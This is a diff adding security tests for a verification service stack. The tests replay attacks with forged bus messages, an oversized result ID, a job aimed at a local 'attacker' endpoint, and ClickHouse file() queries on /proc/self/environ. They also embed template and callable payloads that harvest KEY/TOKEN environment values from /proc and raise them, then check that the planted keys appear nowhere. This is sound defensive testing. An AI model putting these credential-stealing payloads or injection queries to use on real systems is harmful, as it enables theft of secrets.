@@ -1,0 +1,477 @@
+"""Issue 10, items 1, 4-7 replayed against a real local stack (`veribus up`: nats-server with
+per-role auth, the simulator, every service) as an attacker would: nats-py directly, with no
+credentials, with a service's credentials, with the operator's; a forged job pointing the
+service's key at a listener; a 5,000-character result_id; forged dead letters and results; a
+heavy query during a run; templates and a callable trait that read the service's environment
+from /proc and raise it. Afterwards every file, stream message, row and export is searched
+for the planted key.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import stat
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import nats
+import pytest
+import yaml
+from nats.js.errors import NotFoundError
+
+from shared.analysis.export import export_run
+from shared.control import runner, stack, streams, wait
+from shared.core import events
+from shared.core.benchmark.model import Benchmark
+from shared.core.config import ModelConfig, Settings, VerificationConfig
+from shared.runtime import bus, bus_auth
+from shared.store.reads import QueryError, run_query
+from tests.support.stack import (
+    Stack,
+    generated_benchmark,
+    results_of,
+    start_stack,
+    stop_stack,
+    sync,
+    wait_projected,
+    wait_projector_idle,
+    wait_results,
+)
+
+PLANTED = "sk-planted-" + os.urandom(12).hex()  # never a real key
+PLANTED_TOKEN = "tok-planted-" + os.urandom(12).hex()
+
+PROC_LEAK_TEMPLATE = '''from typing import ClassVar
+from karenina.schemas.entities import BaseAnswer
+from pydantic import Field
+import os
+
+def _steal():
+    found = []
+    for path in ("/proc/%d/environ" % os.getppid(), "/proc/self/environ"):
+        try:
+            raw = open(path, "rb").read().decode("utf-8", "replace")
+            found += [kv for kv in raw.split("\\x00") if "KEY" in kv or "TOKEN" in kv]
+        except Exception as exc:
+            found.append(repr(exc))
+    found += ["%s=%s" % kv for kv in os.environ.items() if "KEY" in kv[0] or "TOKEN" in kv[0]]
+    return " | ".join(found) or "nothing found"
+
+class Answer(BaseAnswer):
+    value: int = Field(description="The number asked for")
+    LEAK: ClassVar[str] = _steal()  # class-body code
+
+    def model_post_init(self, __context):
+        self.correct = {"value": 0}
+
+    def verify(self) -> bool:
+        raise RuntimeError("stolen: " + self.LEAK + " / " + _steal())
+'''
+
+CALLABLE_LEAK = '''def evaluate(trace: str) -> bool:
+    import os
+    data = []
+    for path in ("/proc/%d/environ" % os.getppid(), "/proc/self/environ"):
+        try:
+            raw = open(path, "rb").read().decode("utf-8", "replace")
+            data += [kv for kv in raw.split("\\x00") if "KEY" in kv or "TOKEN" in kv]
+        except Exception as exc:
+            data.append(repr(exc))
+    data += ["%s=%s" % kv for kv in os.environ.items() if "KEY" in kv[0] or "TOKEN" in kv[0]]
+    raise RuntimeError("callable stole: " + " | ".join(data))
+'''
+@pytest.fixture(scope="module")
+def tstack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
+    home = tmp_path_factory.mktemp("trust") / "home"
+    st = start_stack(home, extra_env={"OPENAI_API_KEY": PLANTED, "VB_PLANTED_TOKEN": PLANTED_TOKEN,
+                                      "VERIBUS_QUERY_TIMEOUT_S": "60"})
+    try:
+        yield st
+    finally:
+        stop_stack(st)
+
+
+def _as(st: Stack, role: str | None, **kw: Any) -> Settings:
+    """The stack's settings with another role's credentials (None: no credentials at all)."""
+    if role is None:
+        return Settings(home=Path(st.settings.home) / "nowhere", nats_url=st.settings.nats_url)
+    return st.settings.model_copy(update={"nats_role": role, **kw})
+
+
+async def _connect(settings: Settings, errors: list[str]) -> nats.NATS:
+    async def on_error(exc: Exception) -> None:
+        errors.append(str(exc))
+
+    opts = bus.connect_options(settings)
+    opts.update(allow_reconnect=False, max_reconnect_attempts=0, error_cb=on_error)
+    return await nats.connect(**opts)
+
+
+async def _stored(st: Stack, subject: str) -> bool:
+    nc = await bus.connect(_as(st, "admin"))
+    try:
+        await nc.jetstream().get_last_msg(events.STREAM, subject, direct=True)
+        return True
+    except NotFoundError:
+        return False
+    finally:
+        await nc.close()
+
+
+def _run(st: Stack, path: Path, config: VerificationConfig) -> runner.RunPlan:
+    plan = runner.plan_run(Benchmark.load(path), config)
+    sync(runner.submit(st.settings, plan))
+    return plan
+
+
+# ------------------------------------------------------------------ item 6: open by default
+
+
+def test_stack_files_are_private(tstack: Stack) -> None:
+    home = Path(tstack.settings.home)
+    assert stat.S_IMODE(home.stat().st_mode) == 0o700
+    for f in (home / "stack.json", bus_auth.credentials_path(home), bus_auth.auth_dir(home) / "nats-auth.conf"):
+        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
+    checked = 0
+    for sub in ("logs", "nats", "chdb"):
+        for p in (home / sub).rglob("*"):
+            if p.is_symlink():  # chdb links database names to their folders; the targets are checked
+                continue
+            mode = stat.S_IMODE(p.stat().st_mode)
+            assert mode & 0o077 == 0, f"{p} is readable by others: {oct(mode)}"
+            checked += 1
+    assert checked > 10
+    # no NATS secret in any service's environment (templates could read it there)
+    import psutil
+
+    for p in tstack.reload().procs:
+        if p.name in ("nats", "simulator"):
+            continue
+        env = psutil.Process(p.pid).environ()
+        assert "VERIBUS_NATS_PASSWORD" not in env and "VERIBUS_NATS_TOKEN" not in env
+        assert env.get("VERIBUS_NATS_ROLE") == p.name.split("-")[0]
+        # provider keys only where model calls are made
+        assert (env.get("OPENAI_API_KEY") == PLANTED) is (p.name not in ("projector", "finalization")), p.name
+
+
+def test_no_credentials_no_bus(tstack: Stack) -> None:
+    errors: list[str] = []
+    refused = (nats.errors.Error, OSError, TimeoutError)
+    with pytest.raises(refused) as ei:
+        sync(_connect(_as(tstack, None), errors))
+    assert "authorization" in (str(ei.value) + " ".join(errors)).lower()
+    wrong = _as(tstack, "cli", nats_user="vb-cli", nats_password="guessed")
+    with pytest.raises(refused):
+        sync(_connect(wrong, []))
+
+
+def test_roles_limit_what_each_may_publish_and_read(tstack: Stack) -> None:
+    run_id = "forgery-run"
+
+    async def attempt(role: str, rid: str) -> dict[str, Any]:
+        errors: list[str] = []
+        nc = await _connect(_as(tstack, role), errors)
+        out: dict[str, Any] = {}
+        try:
+            fake = events.make_envelope(events.RESULT_FINALIZED, run_id, rid,
+                                        events.ResultFinalized(result={"forged": True}), "attacker")
+            await nc.publish(fake.subject, events.encode(fake))
+            dl = events.make_envelope(events.DEAD_LETTER, run_id, rid, events.DeadLetter(
+                subject=events.subject(events.ANSWER_REQUESTED, run_id, rid), consumer="x", error="x", deliveries=1),
+                "attacker")
+            await nc.publish(dl.subject, events.encode(dl))
+            try:  # the query endpoint, as this role
+                await nc.request(events.QUERY_SUBJECT, b'{"sql": "SELECT 1"}', timeout=3)
+                out["query"] = True
+            except Exception:  # noqa: BLE001 - no reply: refused
+                out["query"] = False
+            try:  # read the whole stream
+                sub = await nc.subscribe("vb.>")
+                await nc.flush()
+                await asyncio.sleep(0.3)
+                out["sub_ok"] = not any("subscription" in e.lower() for e in errors)
+                await sub.unsubscribe()
+            except Exception:  # noqa: BLE001
+                out["sub_ok"] = False
+            await nc.flush()
+            await asyncio.sleep(0.3)
+        finally:
+            out["errors"] = list(errors)
+            await nc.close()
+        return out
+
+    for i, role in enumerate(("cli", "generation", "guards", "projector")):
+        rid = f"{i:016x}"
+        got = sync(attempt(role, rid))
+        assert any("permissions violation" in e.lower() for e in got["errors"]), (role, got)
+        assert not sync(_stored(tstack, events.subject(events.RESULT_FINALIZED, run_id, rid))), role
+        # a dead letter is a stage service's output; the operator and the projector cannot make one
+        may_dead_letter = role in ("generation", "guards")
+        assert sync(_stored(tstack, events.subject(events.DEAD_LETTER, run_id, rid))) is may_dead_letter, role
+        assert got["query"] is (role == "cli"), role  # a service role cannot query ("nobody" cannot connect)
+        assert got["sub_ok"] is False, role
+
+
+# ------------------------------------------------------ item 5: forged jobs and dead letters
+
+
+def test_forged_job_cannot_send_the_key_elsewhere(tstack: Stack, tmp_path: Path) -> None:
+    hits: list[bytes] = []
+    ready = threading.Event()
+    stop = threading.Event()
+    port_box: list[int] = []
+
+    def listener() -> None:
+        async def main() -> None:
+            async def on_conn(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+                hits.append(await reader.read(65536))
+                writer.close()
+
+            server = await asyncio.start_server(on_conn, "127.0.0.1", 0)
+            port_box.append(server.sockets[0].getsockname()[1])
+            ready.set()
+            while not stop.is_set():
+                await asyncio.sleep(0.1)
+            server.close()
+
+        asyncio.run(main())
+
+    t = threading.Thread(target=listener)
+    t.start()
+    try:
+        ready.wait(10)
+        attacker = f"http://127.0.0.1:{port_box[0]}/v1"
+        path, script = generated_benchmark(tmp_path / "b.yaml", 3, rubric=False, prefix="Forged")
+        tstack.post_script(script)
+        cfg = VerificationConfig(
+            answering_models=[ModelConfig(model_name="openai/gpt-4.1-mini", api_base=attacker,
+                                          api_key_env="OPENAI_API_KEY", max_retries=0, timeout=5)],
+            parsing_models=[tstack.model("sim-judge")])
+        plan = _run(tstack, path, cfg)
+        wait_results(tstack, plan.run_id, 3)
+        res = results_of(tstack, plan.run_id)
+        # and the services are unharmed: a normal run right after
+        ok = _run(tstack, path, tstack.config(mode="template_only"))
+        wait_results(tstack, ok.run_id, 3)
+        ok_res = results_of(tstack, ok.run_id)
+    finally:
+        stop.set()
+        t.join(10)
+    assert hits == [], "the service connected to the attacker's endpoint"
+    assert len(res) == 3
+    for r in res.values():
+        assert not r.metadata.completed_without_errors
+        assert "endpoint_refused" in (r.metadata.error or "") and PLANTED not in (r.metadata.error or "")
+    assert len(ok_res) == 3 and all(r.metadata.completed_without_errors for r in ok_res.values())
+
+
+def test_oversized_result_id_is_dead_lettered_once_and_nothing_wedges(tstack: Stack, tmp_path: Path) -> None:
+    gen_pid = tstack.proc("generation").pid
+    path, script = generated_benchmark(tmp_path / "b.yaml", 4, rubric=False, prefix="Wedge")
+    tstack.post_script(script)
+    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))
+    job = plan.requests[0].jobs[0]
+    long_id = "a" * 5000
+    forged_job = msgspec.structs.replace(job, result_id=long_id, answer_id=long_id, run_id=plan.run_id)
+    env = events.make_envelope(events.ANSWER_REQUESTED, plan.run_id, long_id,
+                               events.AnswerRequested(jobs=[forged_job]), "attacker")
+    subject = events.subject(events.ANSWER_REQUESTED, plan.run_id, "wedge0000000001")
+
+    async def forge() -> None:
+        nc = await bus.connect(tstack.settings)  # the operator's role may request answers
+        try:
+            await nc.jetstream().publish(subject, events.encode(env), stream=events.STREAM)
+        finally:
+            await nc.close()
+
+    sync(forge())
+    sync(runner.submit(tstack.settings, plan))  # the real run, after the forged message
+    wait_results(tstack, plan.run_id, 4)
+    assert tstack.proc("generation").pid == gen_pid and tstack.proc("generation").alive()
+    res = results_of(tstack, plan.run_id)
+    assert len(res) == 4 and all(r.metadata.completed_without_errors for r in res.values())
+
+    async def dead_letters() -> list[events.Envelope]:
+        nc = await bus.connect(tstack.settings)
+        try:
+            return await streams.read_events(nc.jetstream(), events.subject(events.DEAD_LETTER, plan.run_id, "*"))
+        finally:
+            await nc.close()
+
+    dls = sync(dead_letters())
+    assert len(dls) == 1, "dead-lettered once, not once per delivery"
+    dl = events.payload_as(dls[0], events.DeadLetter)
+    assert dls[0].result_id == "wedge0000000001" and dl.consumer == "generation" and dl.deliveries == 1
+    assert "result_id" in dl.error and len(dl.error) < 2100
+    # and a second run afterwards still gets all its results: the service was never wedged
+    again = _run(tstack, path, tstack.config(mode="template_only"))
+    wait_results(tstack, again.run_id, 4)
+
+
+def test_forged_dead_letters_do_not_end_a_run(tstack: Stack, tmp_path: Path) -> None:
+    """The operator's role cannot publish dead letters or results; `collect` (what `veribus run`
+    waits with) ends only on result.finalized, so the run gets every real result."""
+    path, script = generated_benchmark(tmp_path / "b.yaml", 6, rubric=False, prefix="Deadforge")
+    tstack.post_script(script)
+    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))
+
+    async def forge_then_collect() -> runner.RunOutcome:
+        errors: list[str] = []
+        nc = await _connect(tstack.settings, errors)
+        try:
+            for rid in plan.result_ids:
+                for et, payload in ((events.DEAD_LETTER, events.DeadLetter(subject="x", consumer="x", error="forged",
+                                                                          deliveries=1)),
+                                    (events.RESULT_FINALIZED, events.ResultFinalized(result={"forged": True}))):
+                    env = events.make_envelope(et, plan.run_id, rid, payload, "attacker")
+                    await nc.publish(env.subject, events.encode(env))
+            await nc.flush()
+        finally:
+            await nc.close()
+        await runner.submit(tstack.settings, plan)
+        return await runner.collect(tstack.settings, plan.run_id, set(plan.result_ids), timeout=180)
+
+    outcome = sync(forge_then_collect())
+    assert not outcome.timed_out and outcome.dead_letters == []
+    assert len(outcome.results) == 6 and all(r.metadata.completed_without_errors for r in outcome.results.values())
+
+
+# -------------------------------------------------------------- item 4: the query endpoint
+
+
+def test_query_endpoint_attacks_through_the_stack(tstack: Stack, tmp_path: Path) -> None:
+    secret = tmp_path / "root-only"
+    secret.write_text("ROOT-ONLY-" + os.urandom(6).hex())
+    secret.chmod(0o600)
+    for sql in (f"SELECT $$'$$ AS a, file('{secret}') AS b, 'x' AS c",
+                "SELECT $$'$$ AS a, file('/proc/self/environ') AS b, 'x' AS c"):
+        with pytest.raises(QueryError) as ei:
+            run_query(tstack.settings, sql)
+        assert "file()" in str(ei.value) and secret.read_text() not in str(ei.value) and PLANTED not in str(ei.value)
+
+
+def test_heavy_query_blocks_neither_queries_nor_a_run(tstack: Stack, tmp_path: Path) -> None:
+    path, script = generated_benchmark(tmp_path / "b.yaml", 4, rubric=False, prefix="Heavy")
+    tstack.post_script(script)
+    box: dict[str, Any] = {}
+    started = threading.Event()
+
+    def heavy() -> None:
+        started.set()
+        try:
+            box["rows"] = run_query(tstack.settings, "SELECT count() FROM numbers(100000000000) "
+                                                     "WHERE sipHash64(number) = 7", timeout=120).rows
+        except QueryError as exc:
+            box["err"] = exc
+
+    t = threading.Thread(target=heavy)
+    t.start()
+    started.wait(10)
+    running = ("SELECT count() FROM events WHERE event_type = 'never' AND "
+               "run_id = {r:String}")  # a cheap query that must answer while the heavy one runs
+    light = run_query(tstack.settings, running, {"r": "x"}).rows
+    plan = _run(tstack, path, tstack.config(mode="template_only"))
+    done, timed_out = sync(wait.wait_for_results(tstack.settings, plan.run_id, count=4, timeout=120,
+                                                      poll_s=0.25))
+    wait_projected(tstack, plan.run_id, 4)  # ingestion went on
+    heavy_still_running = t.is_alive()
+    t.join(180)
+    assert light == [(0,)]
+    assert not timed_out and done == 4
+    assert heavy_still_running, "the run and its rows had to wait for the heavy query"
+    assert "err" in box and "TIMEOUT" in str(box["err"]).upper()
+
+
+# ---------------------------------------------------- item 1: the planted key goes nowhere
+
+
+def test_planted_key_is_nowhere(tstack: Stack, tmp_path: Path) -> None:
+    path, script = generated_benchmark(tmp_path / "b.yaml", 3, prefix="Planted")
+    doc = yaml.safe_load(path.read_text())
+    doc["questions"].append({"id": "proc-leak", "question": "Planted question leak: what is 0 plus 0?", "answer": "0",
+                             "template": PROC_LEAK_TEMPLATE})
+    doc["rubric"]["callable_traits"] = [{"name": "Stealer", "kind": "boolean", "callable_code": CALLABLE_LEAK}]
+    path.write_text(yaml.safe_dump(doc, sort_keys=False))
+    tstack.post_script({"questions": [*script["questions"],
+                                      {"match": "Planted question leak", "answer": "0", "parsed": {"value": 0},
+                                       "judge": {"Clarity": True}}]})
+    plan = _run(tstack, path, tstack.config(mode="template_and_rubric"))
+    wait_results(tstack, plan.run_id, 4)
+    wait_projected(tstack, plan.run_id, 4)
+    wait_projector_idle(tstack)
+    res = results_of(tstack, plan.run_id)
+    leak = next(r for r in res.values() if r.metadata.question_id == "proc-leak")
+    assert not leak.metadata.completed_without_errors or leak.template.verify_result is not True
+    exports = [Path(export_run(tstack.settings, plan.run_id, fmt, tmp_path / f"e.{fmt}").path)
+               for fmt in ("json", "jsonl", "csv")]
+    home = Path(tstack.settings.home)
+    for secret in (PLANTED, PLANTED_TOKEN):
+        needle = secret.encode()
+        for sub in ("nats", "logs"):
+            hits = [str(p) for p in (home / sub).rglob("*") if p.is_file() and needle in p.read_bytes()]
+            assert hits == [], f"{secret[:12]} in {hits}"
+        for table in ("events", "verification_results", "runs"):
+            cols = [r[0] for r in run_query(tstack.settings, f"DESCRIBE TABLE {table}").rows]
+            cond = " OR ".join(f"position(toString({c}), {{s:String}}) > 0" for c in cols)
+            n = run_query(tstack.settings, f"SELECT count() FROM {table} WHERE {cond}", {"s": secret}).rows[0][0]
+            assert n == 0, f"{secret[:12]} in {n} rows of {table}"
+        for f in exports:
+            assert needle not in f.read_bytes(), f
+    # the search had something to search: the stolen text reached the result, redacted
+    text = json.dumps(leak.model_dump(mode="json"))
+    # the search had something to search: the stolen text reached the result, with the key
+    # redacted, or the read itself was refused (a sandbox without /proc access)
+    assert "stolen" in text and ("[REDACTED]" in text or "Error(" in text), text[:2000]
+    traits = [json.dumps(r.model_dump(mode="json")) for r in res.values()]
+    assert any("callable stole" in t for t in traits)
+    assert all("callable stole" not in t or "[REDACTED]" in t or "Error(" in t for t in traits)
+
+
+def test_dead_letter_of_a_running_job_becomes_its_finalized_error(tstack: Stack, tmp_path: Path) -> None:
+    """A corrupt stage event for a running job (here: a `template.parsed` whose job belongs to
+    another run, published where only a service could) is dead-lettered by verification; the
+    job cannot finish through it, so the finalizer makes the job's finalized error result, and
+    `collect` gets it. The other job of the run is untouched."""
+    path, script = generated_benchmark(tmp_path / "b.yaml", 2, rubric=False, prefix="Stuck")
+    tstack.post_script(script)
+    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))
+    stuck, other = plan.result_ids
+    stack.stop_proc(tstack.proc("parsing"))  # hold the jobs after the guards
+    try:
+        sync(runner.submit(tstack.settings, plan))
+        checked = events.subject(events.GUARDS_CHECKED, plan.run_id, stuck)
+        deadline = time.monotonic() + 120
+        while not sync(_stored(tstack, checked)):
+            assert time.monotonic() < deadline, "the guards never checked the job"
+            threading.Event().wait(0.25)
+        job = next(j for r in plan.requests for j in r.jobs if j.result_id == stuck)
+        bad = msgspec.structs.replace(job, run_id="someone-elses-run")
+        env = events.make_envelope(events.TEMPLATE_PARSED, plan.run_id, stuck,
+                                   events.StageEvent(bad, events.State()), "corrupt")
+
+        async def publish_corrupt() -> None:
+            nc = await bus.connect(_as(tstack, "admin"))
+            try:
+                await bus.publish(nc.jetstream(), env)
+            finally:
+                await nc.close()
+
+        sync(publish_corrupt())
+        outcome = sync(runner.collect(tstack.settings, plan.run_id, {stuck}, timeout=120))
+    finally:
+        tstack.restart("parsing")
+    assert not outcome.timed_out
+    err = outcome.results[stuck].metadata
+    assert not err.completed_without_errors and "dead-lettered by verification" in (err.error or "")
+    wait_results(tstack, plan.run_id, 2)
+    res = results_of(tstack, plan.run_id)
+    assert res[other].metadata.completed_without_errors
+    assert not res[stuck].metadata.completed_without_errors  # one finalized result, the error
+    counts = sync(wait.finalized_counts(tstack.settings, plan.run_id))
+    assert set(counts.values()) == {1}
